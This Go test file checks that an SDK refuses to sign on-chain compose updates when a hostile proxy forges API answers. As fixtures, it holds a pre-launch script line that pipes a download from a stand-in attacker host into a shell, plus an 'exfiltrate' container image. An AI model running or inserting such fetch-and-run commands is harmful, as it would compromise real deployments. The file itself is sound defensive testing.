package onchain_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/phalacloud/go-sdk/onchain"
	"github.com/phalacloud/go-sdk/onchain/chaintest"
	"github.com/phalacloud/go-sdk/phala"
)

// hostile is a proxy between the SDK and the fake cloud that rewrites the
// 465 answer's details (compose_hash, app_id, device_id) and the current
// app-compose (GET .../compose_file): an attacker who controls the API's
// answers, as in issue 20 §3.
type hostile struct {
	details map[string]string    // 465 details field -> value
	compose func(map[string]any) // edits GET compose_file answers
	url     string
}

func newHostile(t *testing.T, e *env) *hostile {
	t.Helper()
	h := &hostile{details: map[string]string{}}
	target, err := url.Parse(e.srv.RootURL())
	require.NoError(t, err)
	rp := httputil.NewSingleHostReverseProxy(target)
	rp.ModifyResponse = h.rewrite
	hs := httptest.NewServer(rp)
	t.Cleanup(hs.Close)
	h.url = hs.URL + "/api/v1"
	return h
}

func (h *hostile) client(t *testing.T, e *env) *phala.Client {
	t.Helper()
	c, err := phala.NewClient(phala.WithBaseURL(h.url), phala.WithAPIKey(e.srv.APIKey()), phala.WithoutRetries())
	require.NoError(t, err)
	return c
}

func (h *hostile) rewrite(resp *http.Response) error {
	isCompose := resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/compose_file") && h.compose != nil
	if resp.StatusCode != 465 && !isCompose { // 465: the on-chain precondition
		return nil
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	resp.Body.Close()
	var doc map[string]any
	if err := json.Unmarshal(body, &doc); err != nil {
		return err
	}
	if isCompose {
		h.compose(doc)
	} else if ds, ok := doc["details"].([]any); ok {
		for _, d := range ds {
			m, _ := d.(map[string]any)
			if v, ok := h.details[fmt.Sprint(m["field"])]; ok {
				m["value"] = v
			}
		}
	}
	out, _ := json.Marshal(doc)
	resp.Body = io.NopCloser(bytes.NewReader(out))
	resp.ContentLength = int64(len(out))
	resp.Header.Set("Content-Length", fmt.Sprint(len(out)))
	return nil
}

// hashWith is the dump-form compose hash of the CVM's current app-compose
// with edit applied to it.
func hashWith(t *testing.T, e *env, edit func(map[string]any)) string {
	t.Helper()
	ac, _, ok := e.srv.AppCompose(e.cvm.ID)
	require.True(t, ok)
	edit(ac)
	b, err := json.Marshal(ac)
	require.NoError(t, err)
	h, err := phala.DumpAppComposeHash(b)
	require.NoError(t, err)
	return h
}

func allowed(t *testing.T, e *env, app, hash string) bool {
	t.Helper()
	a, err := onchain.NewApp(e.chain.Client(), app)
	require.NoError(t, err)
	ok, err := a.ComposeHashAllowed(ctxT(t), hash)
	require.NoError(t, err)
	return ok
}

const evilCompose = "services:\n  web:\n    image: attacker/exfiltrate:latest\n"

// The 465 names the hash of another compose file than the caller's: the
// owner's key must not approve it.
func TestAttack465WithAnotherComposeHashIsNotSigned(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	h := newHostile(t, e)
	evil := hashWith(t, e, func(ac map[string]any) { ac["docker_compose_file"] = evilCompose })
	honest := hashWith(t, e, func(ac map[string]any) { ac["docker_compose_file"] = newCompose })
	h.details["compose_hash"] = evil
	c := h.client(t, e)
	sent := e.chain.Client().Sent()

	u := e.updater(e.owner, nil)
	u.Client = c
	_, err := u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	var me *phala.ComposeHashMismatchError
	require.True(t, errors.As(err, &me), "%v", err)
	require.ErrorIs(t, err, phala.ErrComposeHashMismatch)
	require.Equal(t, evil, me.Got)
	require.Equal(t, honest, me.Want)
	require.Equal(t, []string{"docker_compose_file"}, me.Changed)
	require.Contains(t, err.Error(), evil)
	require.Contains(t, err.Error(), honest)
	require.Equal(t, sent, e.chain.Client().Sent(), "nothing signed")
	require.False(t, allowed(t, e, e.cvm.AppID, evil))

	// The API's hash of the unchanged document is named as such.
	h.details["compose_hash"] = hashWith(t, e, func(map[string]any) {})
	_, err = u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.True(t, errors.As(err, &me), "%v", err)
	require.Equal(t, []string{"docker_compose_file"}, me.Missing)
	require.Contains(t, err.Error(), "without your change")
	require.Equal(t, sent, e.chain.Client().Sent())
}

// The 465 names another app the same key owns: its contract must not get
// the registration.
func TestAttack465NamingAnotherAppIsNotSigned(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	other, err := e.chain.DeployApp(ctx, e.chain.OwnerECDSA(), true, [32]byte{}, [32]byte{})
	require.NoError(t, err)
	otherID := strings.ToLower(other.Hex()[2:])
	h := newHostile(t, e)
	h.details["app_id"] = otherID
	c := h.client(t, e)
	sent := e.chain.Client().Sent()
	honest := hashWith(t, e, func(ac map[string]any) { ac["docker_compose_file"] = newCompose })

	for name, u := range map[string]*onchain.Updater{
		"pinned":          {Client: c, Backend: e.chain.Client(), Signer: e.owner, AppID: e.cvm.AppID, Tx: fastTx()},
		"named by app id": {Client: c, Backend: e.chain.Client(), Signer: e.owner, Tx: fastTx()},
	} {
		id := e.cvm.ID
		if u.AppID == "" {
			id = "app_" + e.cvm.AppID
		}
		_, err := u.Run(ctx, id, onchain.ComposeChange(c, id, newCompose))
		var ae *phala.AppMismatchError
		require.True(t, errors.As(err, &ae), "%s: %v", name, err)
		require.ErrorIs(t, err, phala.ErrAppMismatch)
		require.Equal(t, otherID, ae.Got)
		require.Equal(t, e.cvm.AppID, ae.Want)
	}
	// Neither named nor pinned: refused, saying how to pin it.
	u := &onchain.Updater{Client: c, Backend: e.chain.Client(), Signer: e.owner, Tx: fastTx()}
	_, err = u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.ErrorIs(t, err, phala.ErrInvalidArgument)
	require.Contains(t, err.Error(), "Updater.AppID")

	require.Equal(t, sent, e.chain.Client().Sent(), "nothing signed")
	require.False(t, allowed(t, e, otherID, honest))
	require.False(t, allowed(t, e, e.cvm.AppID, honest))
}

// The 465 names a device of the attacker's: AddDevice registers only the
// device the caller named.
func TestAttack465DeviceIsNotAddedUnlessNamed(t *testing.T) {
	e := newEnv(t, envOpts{chainOpts: &chaintestNoDevice})
	ctx := ctxT(t)
	h := newHostile(t, e)
	attackerDevice := strings.Repeat("ad", 32)
	h.details["device_id"] = attackerDevice
	c := h.client(t, e)
	sent := e.chain.Client().Sent()

	u := e.updater(e.owner, nil)
	u.Client, u.AddDevice = c, true
	_, err := u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.ErrorIs(t, err, onchain.ErrDeviceNotAllowed)
	require.Contains(t, err.Error(), attackerDevice)

	u.DeviceID = e.cvm.DeviceID
	_, err = u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.ErrorIs(t, err, onchain.ErrDeviceNotAllowed)
	require.Contains(t, err.Error(), e.cvm.DeviceID)
	require.Equal(t, sent, e.chain.Client().Sent(), "nothing signed")

	app, err := onchain.NewApp(e.chain.Client(), e.cvm.AppID)
	require.NoError(t, err)
	ok, err := app.DeviceAllowed(ctx, attackerDevice)
	require.NoError(t, err)
	require.False(t, ok)

	// Opting in to the API's device id is explicit.
	u.DeviceID, u.InsecureTrustAPIDeviceID = "", true
	_, err = u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.NoError(t, err)
	ok, err = app.DeviceAllowed(ctx, attackerDevice)
	require.NoError(t, err)
	require.True(t, ok, "added only because the caller opted in")
}

// The API serves a doctored "current" app-compose (an extra pre-launch
// script) and a 465 hash consistent with it plus the caller's change: the
// document was never approved on chain, so nothing is signed.
func TestAttackDoctoredCurrentAppComposeIsNotSigned(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	h := newHostile(t, e)
	implant := func(ac map[string]any) { ac["pre_launch_script"] = "curl -s https://attacker.invalid/x | sh" }
	h.compose = implant
	h.details["compose_hash"] = hashWith(t, e, func(ac map[string]any) { implant(ac); ac["docker_compose_file"] = newCompose })
	c := h.client(t, e)
	sent := e.chain.Client().Sent()
	u := e.updater(e.owner, nil)
	u.Client = c
	_, err := u.Run(ctx, e.cvm.ID, onchain.ComposeChange(c, e.cvm.ID, newCompose))
	require.ErrorIs(t, err, onchain.ErrCurrentNotAllowed)
	require.Equal(t, sent, e.chain.Client().Sent(), "nothing signed")
}

// A change whose app-compose the SDK cannot build is refused by default;
// trusting the API's hash is a named opt-out.
func TestUnverifiableChangeNeedsTheNamedOptOut(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	blind := onchain.Change{Send: onchain.ComposeChange(e.client, e.cvm.ID, newCompose).Send}
	u := e.updater(e.owner, nil)
	_, err := u.Run(ctx, e.cvm.ID, blind)
	require.ErrorIs(t, err, phala.ErrInvalidArgument)
	require.Contains(t, err.Error(), "InsecureTrustAPIComposeHash")
	require.Zero(t, e.chain.Client().Sent())

	u.InsecureTrustAPIComposeHash = true
	out, err := u.Run(ctx, e.cvm.ID, blind)
	require.NoError(t, err)
	require.Nil(t, out.Check)
	require.Equal(t, int64(1), e.chain.Client().Sent())
}

// The multisig path: a prepare-only answer is checked before the signers
// are asked to approve its hash.
func TestVerifyPreparedUpdate(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	req := phala.PatchCVMRequest{DockerComposeFile: phala.Ptr(newCompose), PrepareOnly: true}

	prepared, err := e.client.PatchCVM(ctx, e.cvm.ID, &req)
	require.NoError(t, err)
	require.NotEmpty(t, prepared.CommitToken)
	ck, err := onchain.VerifyPrepared(ctx, e.client, e.chain.Client(), e.cvm.ID, e.cvm.AppID, &req, prepared)
	require.NoError(t, err)
	require.Equal(t, prepared.ComposeHash, ck.Hash)
	require.Equal(t, []string{"docker_compose_file"}, ck.Changed)
	ck2, err := e.client.VerifyPreparedUpdate(ctx, e.cvm.ID, e.cvm.AppID, &req, prepared)
	require.NoError(t, err)
	require.Equal(t, ck.Hash, ck2.Hash)

	// A hostile prepare-only answer.
	h := newHostile(t, e)
	evil := hashWith(t, e, func(ac map[string]any) { ac["docker_compose_file"] = evilCompose })
	h.details["compose_hash"] = evil
	c := h.client(t, e)
	bad, err := c.PatchCVM(ctx, e.cvm.ID, &req)
	require.NoError(t, err)
	require.Equal(t, evil, bad.ComposeHash)
	_, err = onchain.VerifyPrepared(ctx, c, e.chain.Client(), e.cvm.ID, e.cvm.AppID, &req, bad)
	require.ErrorIs(t, err, phala.ErrComposeHashMismatch)
	_, err = c.VerifyPreparedUpdate(ctx, e.cvm.ID, e.cvm.AppID, &req, bad)
	require.ErrorIs(t, err, phala.ErrComposeHashMismatch)
	_, err = onchain.VerifyPrepared(ctx, c, e.chain.Client(), e.cvm.ID, "", &req, bad)
	require.ErrorIs(t, err, phala.ErrInvalidArgument, "the app must be named")
	require.Zero(t, e.chain.Client().Sent())
}

// chaintestNoDevice: an app contract that allows no device.
var chaintestNoDevice = chaintest.Options{}

// A new pre-launch script is checked like a compose file.
func TestPreLaunchScriptChangeIsChecked(t *testing.T) {
	e := newEnv(t, envOpts{})
	ctx := ctxT(t)
	script := "#!/bin/sh\necho ready\n"
	out, err := e.updater(e.owner, nil).Run(ctx, e.cvm.ID, onchain.PreLaunchScriptChange(e.client, e.cvm.ID, script))
	require.NoError(t, err)
	require.Equal(t, []string{"pre_launch_script"}, out.Check.Changed)
	require.Equal(t, hashWith(t, e, func(map[string]any) {}), out.ComposeHash, "the CVM now runs it")

	h := newHostile(t, e)
	h.details["compose_hash"] = hashWith(t, e, func(ac map[string]any) { ac["pre_launch_script"] = "curl -s https://attacker.invalid/x | sh" })
	c := h.client(t, e)
	u := e.updater(e.owner, nil)
	u.Client = c
	sent := e.chain.Client().Sent()
	_, err = u.Run(ctx, e.cvm.ID, onchain.PreLaunchScriptChange(c, e.cvm.ID, "#!/bin/sh\necho other\n"))
	require.ErrorIs(t, err, phala.ErrComposeHashMismatch)
	require.Equal(t, sent, e.chain.Client().Sent())
}
